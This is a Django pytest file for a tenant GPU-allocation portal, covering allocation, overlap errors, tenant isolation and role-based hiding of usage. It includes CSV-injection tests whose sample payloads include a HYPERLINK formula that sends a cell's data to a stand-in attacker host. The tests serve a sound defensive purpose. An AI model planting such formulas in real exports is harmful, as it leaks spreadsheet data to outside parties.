"""Tenant pages: allocations with node states, allocate and end from the UI, CSV, isolation."""

from datetime import timedelta

import pytest
from django.test import Client
from django.utils import timezone

from inventory.allocations import allocation_create
from inventory.models import Allocation, LifecycleStatus, Node, Pod, Rack
from portal.models import Action, Role

pytestmark = pytest.mark.django_db


@pytest.fixture
def nodes(db):
    pod = Pod.objects.create(name="p1")
    rack = Rack.objects.create(name="r01", pod=pod)
    return [
        Node.objects.create(
            hostname=f"gpu{n:03d}",
            pod=pod,
            rack=rack,
            status=LifecycleStatus.ACTIVE,
            slurm_state="idle",
        )
        for n in range(1, 7)
    ]


def login(make_user, role, tenant=None) -> Client:
    client = Client()
    client.force_login(make_user(role, tenant=tenant))
    return client


def test_operator_allocates_by_hostlist_and_sees_node_states(make_user, nodes, tenant_a):
    client = login(make_user, Role.OPERATOR)
    start = timezone.now().strftime("%Y-%m-%dT%H:%M")
    response = client.post(
        f"/tenants/{tenant_a.slug}/", {"hostlist": "gpu[001-003]", "start": start, "purpose": "CPT"}
    )
    assert response.status_code == 302
    allocation = Allocation.objects.get(tenant=tenant_a)
    assert allocation.nodes.count() == 3
    assert Action.objects.filter(kind="slurm.reservation_sync").count() == 1
    page = client.get(f"/tenants/{tenant_a.slug}/").content.decode()
    assert (
        "gpu[001-003]" in page and "I idle 3" in page and f"VNI <strong>{tenant_a.evpn_vni}" in page
    )


def test_overlap_shows_the_conflict_on_the_form_and_writes_nothing(
    make_user, nodes, tenant_a, tenant_b
):
    allocation_create(tenant=tenant_b, hostlist="gpu002", start=timezone.now() - timedelta(hours=1))
    client = login(make_user, Role.OPERATOR)
    response = client.post(
        f"/tenants/{tenant_a.slug}/",
        {"hostlist": "gpu[001-003]", "start": timezone.now().strftime("%Y-%m-%dT%H:%M")},
    )
    assert response.status_code == 400
    assert "gpu002" in response.content.decode()
    assert not Allocation.objects.filter(tenant=tenant_a).exists()


def test_end_before_start_is_named(make_user, nodes, tenant_a):
    client = login(make_user, Role.OPERATOR)
    response = client.post(
        f"/tenants/{tenant_a.slug}/",
        {"hostlist": "gpu001", "start": "2026-01-02T00:00", "end": "2026-01-01T00:00"},
    )
    assert (
        response.status_code == 400
        and "The end must be after the start." in response.content.decode()
    )


def test_tenant_admin_reads_own_tenant_only_and_cannot_allocate(
    make_user, nodes, tenant_a, tenant_b
):
    allocation_create(tenant=tenant_a, hostlist="gpu[001-002]", start=timezone.now())
    allocation_create(tenant=tenant_b, hostlist="gpu[005-006]", start=timezone.now())
    client = login(make_user, Role.TENANT_ADMIN, tenant_a)
    page = client.get(f"/tenants/{tenant_a.slug}/").content.decode()
    assert "gpu[001-002]" in page and "gpu[005-006]" not in page and "allocate-form" not in page
    assert client.get(f"/tenants/{tenant_b.slug}/").status_code == 404
    assert client.post(f"/tenants/{tenant_a.slug}/", {"hostlist": "gpu003"}).status_code == 403
    csv_text = client.get(f"/tenants/{tenant_a.slug}/allocations.csv").content.decode()
    assert csv_text.splitlines()[0].startswith("allocation,tenant,nodes")
    assert "gpu[001-002]" in csv_text and "gpu[005-006]" not in csv_text
    assert client.get(f"/tenants/{tenant_b.slug}/allocations.csv").status_code == 404


def test_operator_ends_an_allocation(make_user, nodes, tenant_a):
    allocation = allocation_create(
        tenant=tenant_a, hostlist="gpu001", start=timezone.now() - timedelta(days=1)
    )
    client = login(make_user, Role.OPERATOR)
    assert (
        client.post(f"/tenants/{tenant_a.slug}/allocations/{allocation.pk}/end/").status_code == 302
    )
    allocation.refresh_from_db()
    assert allocation.end is not None and allocation.end <= timezone.now()
    assert Action.objects.filter(kind="slurm.reservation_sync").count() == 2


# (A leading tab or carriage return, also neutralised, does not survive the purpose's strip.)
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_allocations_csv_does_not_hand_a_spreadsheet_a_formula(
    make_user, nodes, tenant_a, formula
):
    """A purpose is anyone's text; a spreadsheet runs a cell that begins with = + - @ or a tab
    as a formula (CSV injection). Such a cell is prefixed with a quote (OWASP's advice)."""
    import csv
    import io

    allocation_create(tenant=tenant_a, hostlist="gpu001", start=timezone.now(), purpose=formula)
    client = login(make_user, Role.TENANT_ADMIN, tenant_a)
    csv_text = client.get(f"/tenants/{tenant_a.slug}/allocations.csv").content.decode()
    rows = list(csv.DictReader(io.StringIO(csv_text)))
    assert [row["purpose"] for row in rows] == [f"'{formula}"]
    assert rows[0]["nodes"] == "gpu001" and rows[0]["node_count"] == "1"


def test_every_csv_export_writes_through_the_formula_safe_writer():
    """One helper neutralises formulas (portal/csv_export.py); no export builds its own."""
    from pathlib import Path

    repo = Path(__file__).resolve().parents[2]
    writers = [
        path.relative_to(repo).as_posix()
        for path in repo.glob("*/**/*.py")
        if not path.is_relative_to(repo / ".venv")
        and not path.is_relative_to(repo / "tests")
        and ("csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text())
    ]
    assert writers == ["portal/csv_export.py"]


def test_the_formula_safe_writer_neutralises_text_cells_only():
    import io

    from portal.csv_export import csv_writer

    stream = io.StringIO()
    csv_writer(stream).writerow(["\tcmd", "\r=1", "=1", "plain", -3, 2.5, ""])
    assert stream.getvalue() == "'\tcmd,\"'\r=1\",'=1,plain,-3,2.5,\r\n"


def test_a_viewer_reads_hidden_for_your_role_where_usage_would_be_a_false_zero(
    make_user, nodes, tenant_a
):
    """Issue 26: a viewer saw "0.00 GPU-hours" and "No running or pending jobs" while the
    tenant's job ran: figures made of jobs are hidden from viewers, and say so."""
    from jobs.models import Job

    allocation_create(tenant=tenant_a, nodes=nodes[:2], start=timezone.now() - timedelta(hours=2))
    job = Job.objects.create(job_id="4242", user="alice", tenant=tenant_a, state="RUNNING",
                             gpus=16, node_count=2, source="squeue",
                             start_time=timezone.now() - timedelta(hours=1))
    job.nodes.set(nodes[:2])
    viewer_page = login(make_user, Role.VIEWER).get(f"/tenants/{tenant_a.slug}/")
    html = viewer_page.content.decode()
    assert viewer_page.status_code == 200
    assert "Hidden for your role." in html
    for false_zero in ("GPU-hours used", "No running or pending jobs", "No allocations",
                       "No open faults"):
        assert false_zero not in html
    for export in ("usage.csv", "allocations.csv"):
        assert login(make_user, Role.VIEWER).get(
            f"/tenants/{tenant_a.slug}/{export}").status_code == 403
    admin_html = login(make_user, Role.TENANT_ADMIN, tenant=tenant_a).get(
        f"/tenants/{tenant_a.slug}/").content.decode()
    assert "Hidden for your role." not in admin_html
    assert "GPU-hours used" in admin_html and 'href="/jobs/4242/"' in admin_html
